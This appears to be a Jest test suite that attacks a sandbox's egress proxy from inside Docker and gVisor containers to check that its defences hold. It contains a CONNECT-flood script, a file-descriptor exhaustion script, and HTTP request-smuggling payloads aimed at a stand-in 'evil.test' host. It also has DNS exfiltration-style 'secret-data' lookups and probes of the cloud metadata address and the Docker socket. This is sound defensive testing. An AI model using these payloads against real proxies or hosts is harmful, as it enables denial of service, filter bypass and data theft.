/**
 * A hostile sandbox against its own egress proxy, on the real Docker engine with the real proxy
 * process: names resolve through a DNS server this test runs on loopback, upstreams are recording
 * servers on loopback (their exact address is exempt through test hooks only). Each attack comes
 * from inside the sandbox; each claim is checked where it matters — this process (the worker's
 * stand-in) stays small, another run on the same provider keeps working, the upstream never sees a
 * foreign Host or a second request, the DNS server never hears a name the allowlist does not hold.
 * Run per isolation class (egress-hostile.test.ts: runc, with the worker-side cases that involve no
 * sandbox; egress-hostile-gvisor.test.ts: the attacks from inside a gVisor sandbox).
 */
import { randomBytes } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { connect, type AddressInfo } from 'node:net';
import { networkInterfaces } from 'node:os';
import Docker from 'dockerode';
import { loadConfig } from '../../../src/config';
import type { EgressAttempt, EgressSummary, LeasedSandbox, SandboxRequest } from '../../../src/domain/sandbox';
import { DockerSandboxProvider } from '../../../src/sandbox';
import { egressTestHooks } from '../../../src/sandbox/egress-test-hooks';
import { readRssMb } from '../../support/load-rss';
import { startRecordingUpstream, type RecordingUpstream } from '../../support/recording-upstream';
import { startTestDns, type TestDns } from '../../support/test-dns';
import type { IsolationClass } from '../../../src/domain/sandbox';
import { announcedNumber } from '../../support/child-output';
import { consistently, eventually } from '../../support/eventually';
import { isolationEnv } from '../../support/sandbox-env';

/** `workerSide`: also the cases about the proxy process and the worker that start no sandbox. */
export function egressHostile(isolation: IsolationClass, o: { workerSide: boolean }): void {
jest.setTimeout(180_000);

const WORKER = `test-egress-${isolation}-${randomBytes(3).toString('hex')}`;
const docker = new Docker();
const config = loadConfig({ ...isolationEnv(isolation), CORRAL_EGRESS_MAX_CONNECTIONS: '256', CORRAL_EGRESS_WILDCARD_RESOLVES_PER_S: '2', CORRAL_EGRESS_WILDCARD_MAX_NAMES: '20' });
let up: RecordingUpstream;
let dns: TestDns;
let provider: DockerSandboxProvider;
/** A non-loopback address of this host with a server on it (0.0.0.0), for the host-address case. */
let hostAddr: string | undefined;
let hostServer: Server;
let hostPort: number;

interface Run {
  sb: LeasedSandbox;
  attempts: EgressAttempt[];
  summaries: EgressSummary[];
  proxyPid(): number;
}

async function acquire(allow: string[], files: Record<string, string> = {}, via = provider): Promise<Run> {
  const attempts: EgressAttempt[] = [];
  const summaries: EgressSummary[] = [];
  const req: SandboxRequest = {
    runId: `run_egress_${randomBytes(4).toString('hex')}`, workerId: WORKER, deadline: new Date(Date.now() + 10 * 60_000), files,
    limits: { memoryMb: 256, cpus: 1, pids: 128, workspaceMb: 16 }, egressAllow: allow,
    onEgress: (a) => attempts.push(a), onEgressSummary: (s) => summaries.push(s),
  };
  const sb = await via.acquire(req);
  return {
    sb, attempts, summaries,
    proxyPid: () => (summaries.find((s) => s.kind === 'proxy' && s.state === 'started') as { pid: number }).pid,
  };
}

const sh = (sb: LeasedSandbox, script: string, timeoutMs = 60_000) => sb.exec({ argv: ['bash', '-c', script], timeoutMs, maxOutputBytes: 64 * 1024 });
const fdCount = (pid: number) => readdirSync(`/proc/${pid}/fd`).length;

beforeAll(async () => {
  up = await startRecordingUpstream();
  hostServer = createServer((_q, r) => r.end('HOST-ADDRESS-REACHED'));
  await new Promise<void>((r) => hostServer.listen(0, '0.0.0.0', r));
  hostPort = (hostServer.address() as AddressInfo).port;
  hostAddr = Object.values(networkInterfaces()).flat().find((i) => i && i.family === 'IPv4' && !i.internal)?.address;
  dns = await startTestDns((h) => {
    if (h === 'allowed.test' || h.endsWith('.wild.test') || h === 'other.test') return ['127.0.0.1'];
    if (h === 'mapped.allowed.test') return ['::ffff:127.0.0.1'];
    if (h === 'nat64.allowed.test') return ['64:ff9b:1::7f00:1'];
    if (h === 'meta.allowed.test') return ['169.254.169.254'];
    if (h === 'self.allowed.test' && hostAddr) return [hostAddr];
    return undefined;
  });
  provider = new DockerSandboxProvider({ docker, config, egressTestHooks: egressTestHooks({ dnsServers: [dns.server], exempt: ['127.0.0.1'] }) });
});

afterAll(async () => {
  await up?.close();
  await dns?.close();
  await new Promise((r) => hostServer.close(r));
  const left = await docker.listContainers({ all: true, filters: { label: [`corral.worker-id=${WORKER}`] } });
  await Promise.all(left.map((c) => docker.getContainer(c.Id).remove({ force: true })));
});

const FLOOD = `
import socket, sys, threading
N, L, T = int(sys.argv[1]), int(sys.argv[2]), 8
counts = {"sent": 0, "failed": 0}
lock = threading.Lock()
def worker(k):
    for i in range(N // T):
        name = ("x" * L) + "!%d" % (k * N + i)
        try:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.settimeout(5)
            s.connect("/run/corral/egress.sock")
            s.sendall(("CONNECT %s:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n" % name).encode())
            try: s.recv(200)
            except Exception: pass
            s.close()
            with lock: counts["sent"] += 1
        except Exception:
            with lock: counts["failed"] += 1
ts = [threading.Thread(target=worker, args=(k,)) for k in range(T)]
[t.start() for t in ts]; [t.join() for t in ts]
print("sent=%d failed=%d" % (counts["sent"], counts["failed"]))
`;

test('CONNECT flood (12,000 × 15,000-character names from 8 threads): this process stays small, events stay few, another run works', async () => {
  const attacker = await acquire([`allowed.test:${up.port}`], { 'flood.py': FLOOD });
  const other = await acquire([`other.test:${up.port}`]);
  try {
    global.gc?.();
    const rss0 = readRssMb(process.pid)!;
    let peak = rss0;
    const sampler = setInterval(() => (peak = Math.max(peak, readRssMb(process.pid) ?? 0)), 50);
    // the flood is a count: on a busy host it takes longer (the bound is for a hang, not a speed check)
    const r = await sh(attacker.sb, 'python3 flood.py 12000 15000', 540_000);
    clearInterval(sampler);
    expect(r.stdout).toMatch(/sent=\d+ failed=\d+/);
    const [, sent, failed] = /sent=(\d+) failed=(\d+)/.exec(r.stdout)!.map(Number);
    expect(sent! + failed!).toBe(12_000);
    expect(peak - rss0).toBeLessThan(100);
    // The attempts came back counted, not one by one (the proxy flushes its aggregates each second).
    const aggregated = await eventually(() => attacker.summaries.filter((s): s is Extract<EgressSummary, { kind: 'aggregate' }> => s.kind === 'aggregate').reduce((a, s) => a + s.count, 0), {
      what: 'the flood to come back in aggregates', until: (n) => n > 1000, timeoutMs: 10_000,
    });
    expect(aggregated).toBeGreaterThan(1000);
    expect(attacker.attempts.length).toBeLessThan(60);
    // Its own egress still answers (a well-formed request after the flood), and the other run is untouched.
    const after = await sh(attacker.sb, `curl -sS -m 10 http://allowed.test:${up.port}/after`);
    expect(after.stdout).toBe('upstream-ok GET /after');
    const o = await sh(other.sb, `curl -sS -m 10 http://other.test:${up.port}/other`);
    expect(o.stdout).toBe('upstream-ok GET /other');
    // Nothing reached the DNS server but the two allowed names.
    expect(new Set(dns.asked)).toEqual(new Set(['allowed.test', 'other.test']));
  } finally {
    await Promise.all([attacker.sb.dispose(), other.sb.dispose()]);
  }
  const stats = attacker.summaries.find((s) => s.kind === 'stats');
  expect(stats).toBeDefined();
}, 600_000);

test('fd flood (3,000 idle connections): the proxy holds at its connection cap and fd limit; another run execs and connects', async () => {
  // No rate cap in the way here: the concurrent-connection cap is what must hold.
  const fast = new DockerSandboxProvider({
    docker, config: { ...config, CORRAL_EGRESS_CONNECTIONS_PER_S: 100_000 }, egressTestHooks: egressTestHooks({ dnsServers: [dns.server], exempt: ['127.0.0.1'] }),
  });
  const attacker = await acquire([`allowed.test:${up.port}`], {}, fast);
  const other = await acquire([`other.test:${up.port}`]);
  try {
    const pid = attacker.proxyPid();
    const limit = Number(/^Max open files\s+(\d+)/m.exec(readFileSync(`/proc/${pid}/limits`, 'utf8'))![1]);
    expect(limit).toBe(256 * 2 + 64);
    const hold = await sh(attacker.sb, `nohup python3 -c "
import socket, time
held = []
for i in range(3000):
    # Blocking connects: when the proxy's backlog is full, a unix connect waits for room (EAGAIN is retried).
    for attempt in range(500):
        try:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect('/run/corral/egress.sock'); held.append(s)
            break
        except BlockingIOError:
            s.close(); time.sleep(0.01)
        except Exception:
            s.close(); break
open('/tmp/held', 'w').write(str(len(held)))
import signal; signal.pause()  # holds them until the sandbox goes
" >/dev/null 2>&1 & until [ -s /tmp/held ]; do sleep 0.1; done; cat /tmp/held`, 90_000);
    expect(Number(hold.stdout)).toBeGreaterThan(500);
    await consistently(() => fdCount(pid), { what: `the proxy's open files to stay within its limit (${limit})`, holds: (n) => n <= limit, forMs: 1000 });
    const dockerFds = fdCount(process.pid);
    // Another run: its exec works and its egress works, while the attacker holds its connections.
    expect((await other.sb.exec({ argv: ['true'], timeoutMs: 30_000 })).exitCode).toBe(0);
    expect((await sh(other.sb, `curl -sS -m 10 http://other.test:${up.port}/fd`)).stdout).toBe('upstream-ok GET /fd');
    expect(fdCount(process.pid)).toBeLessThan(dockerFds + 50);
    // The attacker's own new connections are refused at the cap, recorded once and then counted.
    expect(attacker.attempts.filter((a) => a.code === 'cap_connections').length).toBeLessThanOrEqual(1);
  } finally {
    await Promise.all([attacker.sb.dispose(), other.sb.dispose()]);
  }
  const st = attacker.summaries.find((s): s is Extract<EgressSummary, { kind: 'stats' }> => s.kind === 'stats')!.stats;
  expect(st.peakConnections).toBe(256);
  expect(st.byCode.cap_connections ?? 0).toBeGreaterThan(0);
});

test('smuggling from inside the sandbox: the upstream sees only the allowed Host and never a second request', async () => {
  const run = await acquire([`allowed.test:${up.port}`]);
  up.reset();
  try {
    const p = up.port;
    const inner = `GET http://evil.test:${p}/ HTTP/1.1\\r\\nHost: evil.test:${p}\\r\\n\\r\\n`;
    const r = await sh(run.sb, `python3 - <<'EOF'
import socket
def send(b):
    s = socket.create_connection(("127.0.0.1", 3128)); s.sendall(b); s.settimeout(3)
    out = b""
    try:
        while True:
            c = s.recv(4096)
            if not c: break
            out += c
    except Exception: pass
    print(out.decode(errors="replace").split("\\r\\n")[0])
inner = b"${inner}"
send(b"GET http://evil.test:${p}?@allowed.test/ HTTP/1.1\\r\\nHost: evil.test:${p}\\r\\n\\r\\n")
send(b"GET http://allowed.test:${p}/ HTTP/1.1\\r\\nHost: evil.test:${p}\\r\\n\\r\\n")
send(b"GET http://allowed.test:${p}/ HTTP/1.1\\r\\nHost: allowed.test:${p}\\r\\nHost: evil.test\\r\\n\\r\\n")
send(b"POST http://allowed.test:${p}/ HTTP/1.1\\r\\nHost: allowed.test:${p}\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + inner)
send(b"GET http://allowed.test:${p}/smuggle HTTP/1.1\\r\\nHost: allowed.test:${p}\\r\\nTransfer-Encoding: chunked\\r\\nConnection: close\\r\\n\\r\\n" + (b"%x" % len(inner)) + b"\\r\\n" + inner + b"\\r\\n0\\r\\n\\r\\n")
EOF`);
    expect(r.stdout.split('\n').filter(Boolean)).toEqual([
      'HTTP/1.1 403 Forbidden', 'HTTP/1.1 400 Bad Request', 'HTTP/1.1 400 Bad Request', 'HTTP/1.1 400 Bad Request', 'HTTP/1.1 200 OK',
    ]);
    await eventually(() => up.requests.length, { what: 'the one forwarded request to reach the upstream', timeoutMs: 5000 });
    await consistently(() => up.requests.length, { what: 'only one request to reach the upstream', holds: (n) => n === 1, forMs: 300 });
    expect(up.requests).toEqual([{ method: 'GET', url: '/smuggle', hosts: [`allowed.test:${p}`], bodyBytes: inner.replace(/\\r\\n/g, '\r\n').length }]);
  } finally {
    await run.sb.dispose();
  }
});

test('wildcards: distinct names are rate-limited and capped, counted in the totals, and only allowed names reach the DNS server', async () => {
  const run = await acquire(['*.wild.test:' + up.port]);
  const before = dns.asked.length;
  try {
    const r = await sh(run.sb, `for i in $(seq 1 60); do curl -s -o /dev/null -w "%{http_code} " -m 5 http://secret-data-$i.wild.test:${up.port}/; done; curl -s -m 5 http://secret.evil.test:${up.port}/ -o /dev/null -w "%{http_code}"`, 120_000);
    const codes = r.stdout.trim().split(' ');
    expect(codes.filter((c) => c === '200').length).toBeLessThanOrEqual(20);
    expect(codes.filter((c) => c === '200').length).toBeGreaterThan(0);
    expect(codes.filter((c) => c === '429' || c === '403').length).toBeGreaterThan(30);
  } finally {
    await run.sb.dispose();
  }
  const asked = dns.asked.slice(before);
  expect(asked.every((n) => /^secret-data-\d+\.wild\.test$/.test(n))).toBe(true);
  const st = run.summaries.find((s): s is Extract<EgressSummary, { kind: 'stats' }> => s.kind === 'stats')!.stats;
  expect(new Set(asked).size).toBe(st.wildcardNames['*.wild.test:' + up.port]);
  expect(st.wildcardRefused).toBeGreaterThan(30);
});

test('forbidden ranges after resolution: IPv4-mapped, NAT64, metadata and this host\'s own address are refused, naming the block', async () => {
  // Positive control: the host server answers on the host's own address.
  if (hostAddr) {
    await new Promise<void>((res, rej) => { const c = connect(hostPort, hostAddr!, () => { c.destroy(); res(); }); c.once('error', rej); });
  }
  const run = await acquire([`*.allowed.test:${up.port}`, `self.allowed.test:${hostPort}`]);
  try {
    const r = await sh(run.sb, `for h in mapped nat64 meta; do curl -sS -m 5 http://$h.allowed.test:${up.port}/; done; curl -sS -m 5 http://self.allowed.test:${hostPort}/`);
    expect(r.stdout).toMatch(/mapped\.allowed\.test: it resolves to ::ffff:127\.0\.0\.1, an IPv4-mapped address \(::ffff:0:0\/96\)/);
    expect(r.stdout).toMatch(/nat64\.allowed\.test: it resolves to 64:ff9b:1::7f00:1, a NAT64 .* address \(64:ff9b:1::\/48\)/);
    expect(r.stdout).toMatch(/meta\.allowed\.test: it resolves to 169\.254\.169\.254, a link-local \(cloud metadata\) address \(169\.254\.0\.0\/16\)/);
    if (hostAddr) expect(r.stdout).toMatch(new RegExp(`self\\.allowed\\.test: it resolves to ${hostAddr.replace(/\./g, '\\.')}, `));
    expect(r.stdout).not.toContain('HOST-ADDRESS-REACHED');
  } finally {
    await run.sb.dispose();
  }
});

test('the proxy runs unprivileged; when it dies, that run\'s egress fails with the reason and another run\'s does not', async () => {
  const victim = await acquire([`allowed.test:${up.port}`]);
  const other = await acquire([`other.test:${up.port}`]);
  try {
    const pid = victim.proxyPid();
    const status = readFileSync(`/proc/${pid}/status`, 'utf8');
    expect(status).toMatch(/^Uid:\s+65534\s+65534\s+65534\s+65534$/m);
    expect(status).toMatch(/^Gid:\s+65534\s+65534\s+65534\s+65534$/m);
    expect(status).toMatch(/^Groups:\s*(65534\s*)?$/m);
    expect(status).toMatch(/^NoNewPrivs:\s+1$/m);
    expect(status).toMatch(/^CapBnd:\s+0000000000000000$/m);
    expect(readFileSync(`/proc/${pid}/environ`, 'utf8')).toBe('');
    // Those credentials cannot reach the Docker socket (the same setpriv switch the host uses).
    const { execFileSync } = await import('node:child_process');
    const probe = execFileSync('setpriv', ['--reuid', '65534', '--regid', '65534', '--clear-groups', '--', process.execPath, '-e',
      "require('net').connect('/var/run/docker.sock').on('error', (e) => console.log(e.code)).on('connect', () => { console.log('CONNECTED'); process.exit(); })"]).toString().trim();
    expect(probe).toBe('EACCES');
    process.kill(pid, 'SIGKILL');
    const failed = await eventually(() => victim.summaries.find((s) => s.kind === 'proxy' && s.state === 'failed'), { what: "the victim's proxy failure to be reported", timeoutMs: 5000 });
    expect(failed).toMatchObject({ detail: expect.stringMatching(/the egress proxy process was killed by SIGKILL; this run has no egress from now on/) });
    const r = await sh(victim.sb, `curl -sS -m 5 http://allowed.test:${up.port}/; echo " rc=$?"`);
    expect(r.stdout).toMatch(/rc=(52|56|7)/);
    expect((await sh(other.sb, `curl -sS -m 10 http://other.test:${up.port}/still`)).stdout).toBe('upstream-ok GET /still');
  } finally {
    await Promise.all([victim.sb.dispose(), other.sb.dispose()]);
  }
});

if (o.workerSide) {
test('a worker that dies takes its proxy processes with it (their pipe closes)', async () => {
  const { spawn } = await import('node:child_process');
  const { mkdtempSync, chmodSync, existsSync } = await import('node:fs');
  const { join } = await import('node:path');
  const { tmpdir } = await import('node:os');
  const root = mkdtempSync(join(tmpdir(), 'corral-orphan-'));
  chmodSync(root, 0o711);
  const dir = mkdtempSync(join(root, 'r-'));
  const worker = spawn(process.execPath, ['--import', require.resolve('tsx'), join(__dirname, '../../support/egress-proxy-orphan.ts'), dir, root], { stdio: ['ignore', 'pipe', 'inherit'] });
  const pid = await announcedNumber(worker, 'pid', 'the stand-in worker');
  expect(existsSync(`/proc/${pid}`)).toBe(true);
  worker.kill('SIGKILL');
  await eventually(() => !existsSync(`/proc/${pid}`), { what: 'the orphaned proxy process to exit', timeoutMs: 5000 });
  (await import('node:fs')).rmSync(root, { recursive: true, force: true });
});

}

test('attribution: each connection carries the tool call the worker named when it came in', async () => {
  const run = await acquire([`allowed.test:${up.port}`]);
  try {
    run.sb.noteToolCall!('call_7');
    await sh(run.sb, `curl -s -m 5 http://allowed.test:${up.port}/a; curl -s -m 5 http://nope.test/`);
    run.sb.noteToolCall!(null);
    await sh(run.sb, `curl -s -m 5 http://allowed.test:${up.port}/b`);
    expect(run.attempts.map((a) => [a.host, a.decision, a.callId])).toEqual([
      ['allowed.test', 'allow', 'call_7'], ['nope.test', 'deny', 'call_7'], ['allowed.test', 'allow', null],
    ]);
  } finally {
    await run.sb.dispose();
  }
});

if (o.workerSide) {
test('a worker that is not root (as in compose): the proxy keeps its uid, with no_new_privs, an empty environment and its own fd limit', async () => {
  const { spawn } = await import('node:child_process');
  const { mkdtempSync, chownSync, chmodSync, rmSync } = await import('node:fs');
  const { join } = await import('node:path');
  const { tmpdir } = await import('node:os');
  const root = mkdtempSync(join(tmpdir(), 'corral-nonroot-'));
  chmodSync(root, 0o711);
  const dir = mkdtempSync(join(root, 'r-'));
  chownSync(root, 10100, 10100);
  chownSync(dir, 10100, 10100);
  const worker = spawn('setpriv', ['--reuid', '10100', '--regid', '10100', '--clear-groups', '--', process.execPath, '--import', require.resolve('tsx'), join(__dirname, '../../support/egress-proxy-orphan.ts'), dir, root], {
    stdio: ['ignore', 'pipe', 'inherit'], env: { PATH: process.env.PATH ?? '/usr/bin:/bin', SECRET_OF_THE_WORKER: 'must-not-leak' },
  });
  try {
    const pid = await announcedNumber(worker, 'pid', 'the stand-in worker');
    const status = readFileSync(`/proc/${pid}/status`, 'utf8');
    expect(status).toMatch(/^Uid:\s+10100\s+10100\s+10100\s+10100$/m);
    expect(status).toMatch(/^NoNewPrivs:\s+1$/m);
    expect(readFileSync(`/proc/${pid}/environ`, 'utf8')).toBe('');
    expect(readFileSync(`/proc/${pid}/limits`, 'utf8')).toMatch(/^Max open files\s+576\s+576/m);
  } finally {
    if (worker.exitCode === null && worker.signalCode === null) {
      const gone = new Promise((r) => worker.once('exit', r));
      worker.kill('SIGKILL');
      await gone;
    }
    rmSync(root, { recursive: true, force: true });
  }
});
}
}
